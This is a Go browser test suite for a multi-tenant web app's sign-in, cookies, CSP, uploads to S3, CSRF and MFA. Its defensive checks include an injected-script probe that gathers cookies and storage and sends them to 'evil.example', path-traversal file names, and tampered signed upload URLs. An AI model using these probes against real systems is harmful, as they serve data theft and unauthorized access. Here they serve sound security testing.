//go:build verify

package webtest

import (
	"context"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/storage"
	"github.com/chromedp/chromedp"

	"example.com/cognitocdk/local"
)

// css: a plain string would also be searched for in the text of the page.
type css = chromedp.CSS

const (
	ada, grace = "ada@company.com", "grace@globex.example"
)

// TestBrowser is one person's morning, since a browser takes longer to start than to use; the steps after the
// sign-in need it, and say so by failing.
func TestBrowser(t *testing.T) {
	a := startApp(t)
	a.signUp(t, ada, "Ada Lovelace", "acme")
	a.signUp(t, grace, "Grace Hopper", "globex")
	a.put(t, "tenants/acme/handbook.txt", "for all of acme")
	ctx := a.chromium(t)
	steps := []struct {
		name string
		run  func(*testing.T, context.Context)
	}{
		{"the start page", a.startPage},
		{"a wrong password", a.wrongPassword},
		{"sign-in and who am I", a.signsIn},
		{"cookies have every flag", a.cookies},
		{"a script on the page cannot read a token", a.scripts},
		{"upload to the own folder, straight to the bucket", a.uploads},
		{"a foreign folder is refused", a.foreign},
		{"my tenant, and what the API says", a.tenant},
		{"tokens are renewed", a.renewed},
		{"another site's form changes nothing", a.forged},
		{"pictures in the dark and on a phone", a.pictures},
		{"sign-out", a.signsOut},
		{"the page without a backend", a.spaSteps},
		{"an authenticator is enrolled", a.enrols},
	}
	t.Run("the same at a terminal", func(t *testing.T) { a.terminal(t) })
	for _, step := range steps {
		if !t.Run(step.name, func(t *testing.T) { step.run(t, ctx) }) {
			t.FailNow()
		}
	}
}

func (a *app) startPage(t *testing.T, ctx context.Context) {
	do(t, ctx, "start", chromedp.Navigate(a.url), chromedp.WaitVisible(css("#sign-in")))
	title := ask(t, ctx, "title", chromedp.Title())
	contains(t, "the title", title, "Welcome")
	a.looks(t, ctx, func(name string) {
		accessible(t, ctx, "/, "+name)
		shoot(t, ctx, "1-start-"+name)
	})
}

func (a *app) wrongPassword(t *testing.T, ctx context.Context) {
	do(t, ctx, "to the hosted pages", chromedp.Click(css("#sign-in")), chromedp.WaitVisible(css("#password")))
	if at := a.location(t, ctx); !strings.HasPrefix(at, a.endpoint.URL+"/oauth2/authorize?") {
		t.Errorf("signing in at %s, want the hosted pages", at)
	}
	do(t, ctx, "wrong password", chromedp.SendKeys(css("#username"), ada), chromedp.SendKeys(css("#password"), "wrong horse Battery 9!"), chromedp.Click(css("button[type=submit]")),
		chromedp.WaitVisible(css(".error")))
	text := ask(t, ctx, "text", chromedp.Text(css("body")))
	contains(t, "the hosted page", text, "Incorrect username or password")
	shoot(t, ctx, "2-hosted-wrong-password")
}

func (a *app) signIn(t *testing.T, ctx context.Context, email string) {
	t.Helper()
	do(t, ctx, "sign-in of "+email, chromedp.Navigate(a.url+"/sign-in"), chromedp.WaitVisible(css("#password")),
		chromedp.SendKeys(css("#username"), email), chromedp.SendKeys(css("#password"), password), chromedp.Click(css("button[type=submit]")), chromedp.WaitVisible(css("#subject")))
}

func (a *app) signsIn(t *testing.T, ctx context.Context) {
	a.signIn(t, ctx, ada)
	text := ask(t, ctx, "text", chromedp.Text(css("main")))
	contains(t, "/me", text, "Hello, Ada Lovelace", ada, "verified", "acme", "members", "api/read")
	if at := a.location(t, ctx); at != a.url+"/me" {
		t.Errorf("the sign-in ends at %s, want /me without a code in the address", at)
	}
	shoot(t, ctx, "3-me")
}

func (a *app) cookies(t *testing.T, ctx context.Context) {
	mine := cookies(t, ctx)
	if len(mine) != 1 {
		t.Fatalf("%d cookies, want the session's only", len(mine))
	}
	c := mine[0]
	if c.Name != "__Host-session" || !c.HTTPOnly || !c.Secure || c.SameSite != network.CookieSameSiteLax || c.Path != "/" || c.Domain != "localhost" {
		t.Errorf("cookie %+v, want __Host-session, HttpOnly, Secure, SameSite=Lax, Path=/, this host only", c)
	}
}

// scripts is what an injected script could find: nothing, even if the policy let it run.
func (a *app) scripts(t *testing.T, ctx context.Context) {
	found := evaluate[string](t, ctx, `(async () => {
		let text = document.cookie + JSON.stringify({...localStorage}) + JSON.stringify({...sessionStorage}) + document.documentElement.outerHTML;
		for (const path of ["/me", "/files", "/tenant", "/security", "/"]) {
			const answer = await fetch(path);
			text += await answer.text() + JSON.stringify([...answer.headers]);
		}
		text += JSON.stringify((await indexedDB.databases())) + JSON.stringify(performance.getEntries().map(e => e.name));
		return text;
	})()`)
	// Every token begins with {" in base64url.
	if strings.Contains(found, "eyJ") {
		t.Error("a script on the page can read something that looks like a token")
	}
	if cookie := evaluate[string](t, ctx, `document.cookie`); cookie != "" {
		t.Errorf("document.cookie is %q, want nothing", cookie)
	}
	if len(found) < 10_000 {
		t.Errorf("the script read %d characters, want all pages", len(found))
	}
	ran := evaluate[bool](t, ctx, `(() => { const s = document.createElement("script"); s.textContent = "window.injected = true"; document.body.append(s); return window.injected === true })()`)
	if ran {
		t.Error("an injected script runs: the Content-Security-Policy does not hold")
	}
	sent := evaluate[string](t, ctx, `fetch("https://evil.example/?stolen").then(() => "sent", e => e.name)`)
	violated := evaluate[string](t, ctx, `new Promise(done => { addEventListener("securitypolicyviolation", e => done(e.effectiveDirective), {once: true}); fetch("https://evil.example/").catch(() => {}); setTimeout(() => done("nothing"), 2000) })`)
	if sent != "TypeError" || violated != "connect-src" {
		t.Errorf("sending elsewhere: %s, stopped by %s; want TypeError by connect-src", sent, violated)
	}
}

func (a *app) uploads(t *testing.T, ctx context.Context) {
	do(t, ctx, "no files", chromedp.Navigate(a.url+"/files"), chromedp.WaitVisible(css("#file")))
	shoot(t, ctx, "4-files-empty")
	const name, body = "Grüße aus der Küche.txt", "hello from the browser"
	file := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(file, []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	var direct []string
	var watching sync.Mutex
	listening, stop := context.WithCancel(ctx)
	if err := chromedp.Listen(listening, func(event any) {
		if e, ok := event.(*network.EventRequestWillBeSent); ok && e.Request.Method == "PUT" {
			watching.Lock()
			defer watching.Unlock()
			direct = append(direct, e.Request.URL)
		}
	}); err != nil {
		t.Fatal(err)
	}
	do(t, ctx, "upload", chromedp.SetUploadFiles(css("#file"), []string{file}), chromedp.Click(css("#upload button")), chromedp.WaitVisible(css("tbody tr")))
	text := ask(t, ctx, "text", chromedp.Text(css("main")))
	stop()
	contains(t, "/files", text, name, strconv.Itoa(len(body))+" B")
	watching.Lock()
	defer watching.Unlock()
	if len(direct) != 1 || !strings.HasPrefix(direct[0], a.endpoint.URL+"/") {
		t.Errorf("the browser sent the file to %q, want the bucket", direct)
	}
	if got := a.read(t, a.prefix(t, ctx)+name); got != body {
		t.Errorf("the bucket holds %q, want %q", got, body)
	}
	shoot(t, ctx, "5-files")
	// Without the script, by the server.
	second := filepath.Join(t.TempDir(), "second.txt")
	if err := os.WriteFile(second, []byte("by the form"), 0o600); err != nil {
		t.Fatal(err)
	}
	do(t, ctx, "upload without a script", chromedp.SetUploadFiles(css("#file"), []string{second}), chromedp.Evaluate[chromedp.Void](`document.getElementById("upload").submit()`), chromedp.WaitVisible(css(".notice")))
	text = ask(t, ctx, "text", chromedp.Text(css("main")))
	contains(t, "/files", text, "Uploaded second.txt", name)
	got := evaluate[string](t, ctx, `fetch("/files/second.txt", {redirect: "manual"}).then(r => r.type)`)
	if got != "opaqueredirect" {
		t.Errorf("a download answers %s, want a redirect to a signed address", got)
	}
	do(t, ctx, "delete", chromedp.Navigate(a.url+"/files"), chromedp.Click(css(`button[aria-label="Delete second.txt"]`)), chromedp.WaitVisible(css(".notice")))
	text = ask(t, ctx, "text", chromedp.Text(css("main")))
	if contains(t, "/files", text, "Deleted second.txt"); strings.Contains(strings.ReplaceAll(text, "Deleted second.txt", ""), "second.txt") {
		t.Error("the deleted file is still listed")
	}
}

func (a *app) foreign(t *testing.T, ctx context.Context) {
	other := "users/us-east-1:00000000-0000-4000-8000-000000000000/secret.txt"
	a.put(t, other, "grace's")
	address := func(name string) string {
		return `fetch("/files/address", {method: "POST", headers: {"Content-Type": "application/json", Accept: "application/json", "X-CSRF-Token": document.querySelector("meta[name=csrf]").content}, body: JSON.stringify({name: ` + quoted(name) + `, type: "text/plain", bytes: 4})})`
	}
	for _, name := range []string{"../x/secret.txt", "/secret.txt", "..", "a/b", "a\\b", ""} {
		if got := evaluate[int](t, ctx, address(name)+`.then(r => r.status)`); got != 400 {
			t.Errorf("an address for %q: %d, want 400", name, got)
		}
	}
	// Addresses that were signed for the own folder, turned elsewhere. (Not by the browser: the endpoint's refusals,
	// unlike those of S3, carry no CORS headers, so that a page could not tell a refusal from a broken line.)
	signed := evaluate[upload](t, ctx, address("mine.txt")+`.then(r => r.json())`)
	if got := a.send(t, signed, signed.URL, "evil"); got != http.StatusOK {
		t.Fatalf("an untouched address: %d, want 200", got)
	}
	folder := regexp.MustCompile(`users(%2F|/)[^/]+/[^?]+`)
	for what, to := range map[string]string{
		"somebody else's file": folder.ReplaceAllLiteralString(signed.URL, other),
		"the tenant's folder":  folder.ReplaceAllLiteralString(signed.URL, "tenants/acme/handbook.txt"),
		"another own file":     strings.Replace(signed.URL, "mine.txt", "yours.txt", 1),
	} {
		if got := a.send(t, signed, to, "evil"); got != http.StatusForbidden || to == signed.URL {
			t.Errorf("writing %s: %d, want 403", what, got)
		}
	}
	if got := a.send(t, signed, signed.URL, "much more than four"); got != http.StatusForbidden {
		t.Errorf("a body of another size than was signed: %d, want 403", got)
	}
	for _, path := range []string{"/files/..%2f..%2fusers%2fx%2fsecret.txt", "/files/secret.txt", "/tenant/files/..%2f..%2fusers%2fx"} {
		if got := evaluate[int](t, ctx, `fetch(`+quoted(path)+`).then(r => r.status)`); got != 404 && got != 400 {
			t.Errorf("GET %s: %d, want 404 or 400", path, got)
		}
	}
	if got := a.read(t, other) + a.read(t, "tenants/acme/handbook.txt"); got != "grace's"+"for all of acme" {
		t.Errorf("after the refusals the files say %q", got)
	}
}

// upload is what the app answers for an address.
type upload struct {
	Method, URL string
	Headers     map[string]string
}

// send does what the page's script does, and returns the status.
func (a *app) send(t *testing.T, u upload, to, body string) int {
	t.Helper()
	r := must(http.NewRequestWithContext(t.Context(), u.Method, to, strings.NewReader(body)))(t)
	for name, value := range u.Headers {
		r.Header.Set(name, value)
	}
	response := must(a.endpoint.HTTPClient().Do(r))(t)
	response.Body.Close()
	return response.StatusCode
}

func (a *app) tenant(t *testing.T, ctx context.Context) {
	do(t, ctx, "my tenant", chromedp.Navigate(a.url+"/tenant"), chromedp.WaitVisible(css("#api")))
	text := ask(t, ctx, "text", chromedp.Text(css("main")))
	contains(t, "/tenant", text, "Tenant acme", "handbook.txt")
	for path, status := range map[string]string{"/me": "200", "/tenants/acme": "200", "/tenants/another-tenant": "403"} {
		badge := ask(t, ctx, "API "+path, chromedp.Text(css(`[data-path="`+path+`"]`)))
		if !strings.HasPrefix(badge, status) {
			t.Errorf("API %s: %q, want %s", path, badge, status)
		}
	}
	shoot(t, ctx, "6-tenant")
}

func (a *app) renewed(t *testing.T, ctx context.Context) {
	look := func() (expires string, count int) {
		do(t, ctx, "this session", chromedp.Navigate(a.url+"/me"))
		expires = ask(t, ctx, "end", chromedp.AttributeValue(css("#expires"), "datetime")).Value
		return expires, must(strconv.Atoi(ask(t, ctx, "renewals", chromedp.Text(css("#refreshes")))))(t)
	}
	before, count := look()
	time.Sleep(tokensLast - ahead + time.Second) // the clock is the endpoint's and the browser's too
	answers := evaluate[[]int](t, ctx, `Promise.all(Array.from({length: 12}, () => fetch("/me").then(r => r.status)))`)
	for i, status := range answers {
		if status != 200 {
			t.Errorf("tab %d of %d: %d", i+1, len(answers), status)
		}
	}
	after, more := look()
	if more != count+1 || after <= before {
		t.Errorf("renewed %d times, good until %s; was %d, %s; want one renewal for twelve tabs", more, after, count, before)
	}
}

// forged is a page of another origin that posts a form here. The endpoint's own origin serves as that: another port.
func (a *app) forged(t *testing.T, ctx context.Context) {
	other, end := chromedp.NewContext(ctx)
	defer end()
	if err := chromedp.Do(other); err != nil { // opens the tab, for longer than the first step
		t.Fatal(err)
	}
	do(t, other, "a form elsewhere", chromedp.Navigate(a.endpoint.URL+"/_ministack/ready"), chromedp.Evaluate[chromedp.Void](`(() => {
		const f = document.createElement("form"); f.method = "post"; f.action = `+quoted(a.url+"/sign-out")+`;
		document.body.append(f); f.submit();
	})()`), chromedp.WaitVisible(css(".trouble")))
	text := ask(t, other, "text", chromedp.Text(css("main")))
	if !strings.Contains(text, "did not come from this page") {
		t.Errorf("the form was answered:\n%s", text)
	}
	do(t, ctx, "still signed in", chromedp.Navigate(a.url+"/me"), chromedp.WaitVisible(css("#subject")))
}

func (a *app) pictures(t *testing.T, ctx context.Context) {
	a.looks(t, ctx, func(name string) {
		for _, path := range []string{"/me", "/files", "/tenant", "/security", "/nothing"} {
			do(t, ctx, name+" "+path, chromedp.Navigate(a.url+path))
			accessible(t, ctx, path+", "+name)
			shoot(t, ctx, "8"+strings.ReplaceAll(path, "/", "-")+"-"+name)
		}
	})
}

// looks are the ways in which people see a page.
func (a *app) looks(t *testing.T, ctx context.Context, look func(name string)) {
	t.Helper()
	for _, scheme := range []string{"light", "dark"} {
		if _, err := chromedp.Call(ctx, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: scheme}}}); err != nil {
			t.Fatal(err)
		}
		look(scheme)
		do(t, ctx, "phone", chromedp.EmulateViewport(360, 780, chromedp.EmulateMobile))
		look(scheme + "-phone")
		do(t, ctx, "back", chromedp.EmulateViewport(1200, 900))
	}
	if _, err := chromedp.Call(ctx, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{}); err != nil {
		t.Fatal(err)
	}
}

func (a *app) signsOut(t *testing.T, ctx context.Context) {
	mine := cookies(t, ctx)
	do(t, ctx, "sign out", chromedp.Navigate(a.url+"/me"), chromedp.Click(css("#sign-out")), chromedp.WaitVisible(css("#sign-in")))
	if at := a.location(t, ctx); at != a.url+"/" {
		t.Errorf("signed out at %s, want the start page", at)
	}
	if left := cookies(t, ctx); len(left) != 0 || len(mine) != 1 {
		t.Fatalf("%d cookies are left of %d, want none of one", len(left), len(mine))
	}
	secure := true
	if _, err := chromedp.Call(ctx, network.SetCookie, network.SetCookieParams{Name: mine[0].Name, Value: mine[0].Value, URL: a.url, Path: "/", Secure: &secure}); err != nil {
		t.Fatal(err)
	}
	if left := cookies(t, ctx); len(left) != 1 {
		t.Fatalf("the old cookie could not be put back: %d cookies", len(left))
	}
	do(t, ctx, "the old cookie", chromedp.Navigate(a.url+"/me"), chromedp.WaitVisible(css("#password"))) // the hosted pages: nobody is signed in
}

// cookies are all that the browser has.
func cookies(t *testing.T, ctx context.Context) []*network.Cookie {
	t.Helper()
	all, err := chromedp.Call(ctx, storage.GetCookies, storage.GetCookiesParams{})
	if err != nil {
		t.Fatal(err)
	}
	return all.Cookies
}

// enrols is last: the local hosted pages let nobody in who has a second factor.
func (a *app) enrols(t *testing.T, ctx context.Context) {
	a.signIn(t, ctx, grace)
	do(t, ctx, "begin", chromedp.Navigate(a.url+"/security"), chromedp.Click(css("#enrol")), chromedp.WaitVisible(css(".qr")))
	secret := ask(t, ctx, "secret", chromedp.Text(css("#secret")))
	shoot(t, ctx, "10-authenticator")
	do(t, ctx, "wrong code", chromedp.SendKeys(css("#code"), "000000"), chromedp.Click(css(".row button")), chromedp.WaitVisible(css("#wrong")))
	accessible(t, ctx, "a wrong code")
	shoot(t, ctx, "11-authenticator-wrong")
	totp := must(local.CurrentTOTP(strings.ReplaceAll(secret, " ", ""), time.Now()))(t)
	do(t, ctx, "right code", chromedp.SendKeys(css("#code"), totp.Code), chromedp.Click(css(".row button")), chromedp.WaitVisible(css(".notice")))
	text := ask(t, ctx, "text", chromedp.Text(css("main")))
	contains(t, "/security", text, "second factor from now on", "on")
	shoot(t, ctx, "12-security")
	outcome, err := a.client(t).SignIn(t.Context(), grace, password)
	if err != nil || outcome.Challenge == nil || outcome.Challenge.Name != "SOFTWARE_TOKEN_MFA" {
		t.Errorf("the next sign-in: %+v, %v; want to be asked for a code", outcome, err)
	}
	do(t, ctx, "everywhere", chromedp.Click(css("#everywhere")), chromedp.WaitVisible(css("#sign-in")))
}

func (a *app) location(t *testing.T, ctx context.Context) string {
	t.Helper()
	return ask(t, ctx, "address", chromedp.Location())
}

func (a *app) prefix(t *testing.T, ctx context.Context) string {
	t.Helper()
	return ask(t, ctx, "prefix", chromedp.Text(css("#prefix")))
}

// objects reaches the bucket as the administrator.
func (a *app) objects() *s3.Client {
	return s3.NewFromConfig(a.admin, func(o *s3.Options) { o.UsePathStyle = true })
}

func (a *app) put(t *testing.T, key, body string) {
	t.Helper()
	if _, err := a.objects().PutObject(t.Context(), &s3.PutObjectInput{Bucket: aws.String(a.outputs["UserBucket"]), Key: &key, Body: strings.NewReader(body)}); err != nil {
		t.Fatal(err)
	}
}

func (a *app) read(t *testing.T, key string) string {
	t.Helper()
	out, err := a.objects().GetObject(t.Context(), &s3.GetObjectInput{Bucket: aws.String(a.outputs["UserBucket"]), Key: &key})
	if err != nil {
		t.Fatalf("reading %s: %v", key, err)
	}
	defer out.Body.Close()
	return string(must(io.ReadAll(io.LimitReader(out.Body, 1<<20)))(t))
}
